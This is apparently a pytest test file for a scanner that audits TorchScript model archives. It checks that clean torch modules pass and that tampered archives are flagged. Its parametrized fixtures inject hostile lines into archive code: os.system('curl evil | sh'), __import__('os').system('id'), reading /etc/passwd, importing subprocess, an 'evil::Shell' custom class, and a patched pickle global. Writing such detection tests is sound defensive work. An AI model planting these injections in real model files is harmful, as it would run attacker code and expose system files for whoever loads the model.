"""TorchScript archives are judged by what their code calls (MS703 / MS709 / MS710).

Archives are made with torch itself (``torch.jit.script`` / ``trace`` of real torch
modules and of modules whose forward reaches a file or a custom library), plus the
real Silero VAD archive and archives whose code text was rewritten by hand, the way an
attacker would, to call Python. torch is a hard requirement here (test extras).
"""

from __future__ import annotations

import collections
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import torch

from fixtures import real_model
from fixtures.real_models import SILERO_JIT
from scanner.checks.single import scan_artifact
from scanner.checks.torchscript_vocab import NAMESPACE_OPS, TORCH_VERSION

DANGEROUS, UNVETTED, INVENTORY = "MS709", "MS710", "MS703"


def _rules(path: Path) -> collections.Counter[str]:
    return collections.Counter(f.rule_id for f in scan_artifact(path).findings)


def _messages(path: Path, rule: str) -> list[str]:
    return [f.message for f in scan_artifact(path).findings if f.rule_id == rule]


def _save(module: torch.nn.Module, path: Path) -> Path:
    torch.jit.script(module).save(str(path))
    return path


def _rewrite_code(src: Path, dst: Path, edit) -> Path:
    """Copy a TorchScript zip, passing each code file's text through ``edit``."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith(".py") and "/code/" in info.filename:
                data = edit(data.decode()).encode()
            zout.writestr(info.filename, data)
    return dst


class _Saver(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.proj = torch.nn.Linear(6, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, "/tmp/modelseal-exfiltrated.pt")
        return self.proj(x)


class _Reader(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        leaked = torch.from_file("/etc/hostname", False, 8, dtype=torch.uint8)
        return x + leaked.float().mean()


class _Clean(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.proj = torch.nn.Linear(6, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.softmax(torch.relu(self.proj(x)), dim=-1)


def _registry_at_torch_import() -> dict[str, set[str]]:
    """Operators a bare ``import torch`` registers (a fresh process: torch._inductor and
    friends, imported by other tests, add their own ops to the live registry)."""
    code = (
        "import json, torch\n"
        "ops = {}\n"
        "for s in torch._C._jit_get_all_schemas():\n"
        "    ns, op = s.name.split('::', 1)\n"
        "    ops.setdefault(ns, set()).add(op)\n"
        "print(json.dumps({ns: sorted(v) for ns, v in ops.items()}))\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], check=True, capture_output=True, text=True
    ).stdout
    return {ns: set(ops) for ns, ops in json.loads(out).items()}


def test_vocabulary_is_torchs_own_operator_registry() -> None:
    assert torch.__version__.split("+")[0] == TORCH_VERSION
    registered = _registry_at_torch_import()
    for ns, ops in NAMESPACE_OPS.items():
        if ns != "math":
            assert ops == registered.get(ns, set()), (ns, sorted(ops ^ registered[ns])[:10])
    assert "save" in NAMESPACE_OPS["aten"]  # registered; MS709 takes it out again


def test_real_silero_archive_is_inference_code_at_info() -> None:
    rules = _rules(real_model(SILERO_JIT))
    assert rules[INVENTORY] == 1
    assert rules[DANGEROUS] == rules[UNVETTED] == 0
    inventory = _messages(real_model(SILERO_JIT), INVENTORY)[0]
    assert "44 code files" in inventory and "aten" in inventory


@pytest.mark.parametrize(
    "make",
    [
        lambda: torch.jit.script(
            torch.nn.TransformerEncoder(
                torch.nn.TransformerEncoderLayer(16, 2, 32, batch_first=True), 2
            )
        ),
        lambda: torch.jit.script(torch.nn.LSTM(8, 16, num_layers=2, batch_first=True)),
        lambda: torch.jit.script(torch.nn.MultiheadAttention(16, 4)),
        lambda: torch.jit.trace(
            torch.nn.Sequential(
                torch.nn.Conv2d(3, 8, 3),
                torch.nn.BatchNorm2d(8),
                torch.nn.ReLU(),
                torch.nn.AdaptiveAvgPool2d(1),
                torch.nn.Flatten(),
                torch.nn.Linear(8, 4),
            ).eval(),
            torch.randn(1, 3, 16, 16),
        ),
        lambda: torch.jit.script(_Clean()),
    ],
    ids=["transformer", "lstm", "attention", "traced-convnet", "small"],
)
def test_torchs_own_modules_stay_at_info(make, tmp_path: Path) -> None:
    path = tmp_path / "model.pt"
    make().save(str(path))
    rules = _rules(path)
    assert rules[INVENTORY] == 1
    assert rules[DANGEROUS] == rules[UNVETTED] == 0, scan_artifact(path).findings


def test_forward_that_saves_or_reads_files_fails(tmp_path: Path, run_cli) -> None:
    saver = _save(_Saver(), tmp_path / "saver.pt")
    messages = _messages(saver, DANGEROUS)
    assert len(messages) == 1
    assert "op aten::save writes tensors to a file" in messages[0]
    assert messages[0].startswith("code/__torch__") and ".py:" in messages[0]
    reader = _save(_Reader(), tmp_path / "reader.pt")
    assert any("aten::from_file reads a file" in m for m in _messages(reader, DANGEROUS))
    result = run_cli("scan", saver)
    assert result.code == 1 and "CRITICAL MS709" in result.out


def test_custom_operator_from_a_library_is_unvetted(tmp_path: Path) -> None:
    @torch.library.custom_op("modelseal_test::double", mutates_args=())
    def double(x: torch.Tensor) -> torch.Tensor:
        return x * 2

    class UsesCustomOp(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.ops.modelseal_test.double(x)

    path = _save(UsesCustomOp(), tmp_path / "custom.pt")
    messages = _messages(path, UNVETTED)
    assert len(messages) == 1
    assert "op modelseal_test::double is an operator of namespace 'modelseal_test'" in messages[0]


@pytest.mark.parametrize(
    ("inject", "rule", "expect"),
    [
        ('    __import__("os").system("id")\n', DANGEROUS, "name __import__ is Python"),
        ('    os.system("curl evil | sh")\n', DANGEROUS, "name os is Python"),
        ('    t = open("/etc/passwd").read()\n', DANGEROUS, "name open is Python"),
        ("    ops.prim.PythonOp(x)\n", DANGEROUS, "op prim::PythonOp calls a Python function"),
        ("    torch.ops.c10d.send([x], 1, 0)\n", DANGEROUS, "exchanges data with other processes"),
        ("    h = torch.classes.evil.Shell()\n", UNVETTED, "class evil::Shell is a custom C++"),
        ("    y = torch.not_an_operator(x)\n", UNVETTED, "not an operator of torch's aten"),
        ("    y = helper_nobody_defines(x)\n", UNVETTED, "name helper_nobody_defines"),
    ],
)
def test_hand_written_code_is_caught(tmp_path: Path, inject: str, rule: str, expect: str) -> None:
    clean = _save(_Clean(), tmp_path / "clean.pt")
    assert _rules(clean)[DANGEROUS] == _rules(clean)[UNVETTED] == 0

    def edit(text: str) -> str:
        # Insert the line as the first statement of _Clean.forward.
        if "class _Clean" not in text:
            return text
        start = text.index("def forward(")
        body = text.index(":\n", text.index(") -> ", start)) + 2
        return text[:body] + inject + text[body:]

    tampered = _rewrite_code(clean, tmp_path / "tampered.pt", edit)
    messages = _messages(tampered, rule)
    assert any(expect in m for m in messages), (messages, _rules(tampered))


def test_import_statement_and_unparseable_code(tmp_path: Path) -> None:
    clean = _save(_Clean(), tmp_path / "clean.pt")
    imported = _rewrite_code(clean, tmp_path / "imported.pt", lambda t: "import subprocess\n" + t)
    assert any(
        "import subprocess imports a Python module" in m for m in _messages(imported, DANGEROUS)
    )
    garbled = _rewrite_code(clean, tmp_path / "garbled.pt", lambda t: t + "\ndef (:\n")
    assert any(
        "cannot be audited: not TorchScript source" in m for m in _messages(garbled, UNVETTED)
    )


def test_pickled_custom_class_is_unvetted(tmp_path: Path) -> None:
    """A pickle that instantiates a custom C++ class names it as a __torch__ global."""
    clean = _save(_Clean(), tmp_path / "clean.pt")
    assert _rules(clean)[UNVETTED] == 0
    patched = tmp_path / "custom-class.pt"
    with zipfile.ZipFile(clean) as zin, zipfile.ZipFile(patched, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith("/data.pkl"):
                # GLOBAL '__torch__.<module>\n_Clean': make the module torch.classes.evil
                head, sep, rest = data.partition(b"c__torch__.")
                _module, nl, tail = rest.partition(b"\n")
                data = head + sep + b"torch.classes.evil" + nl + tail
            zout.writestr(info.filename, data)
    messages = _messages(patched, UNVETTED)
    assert any("__torch__.torch.classes.evil._Clean, a custom C++ class" in m for m in messages)
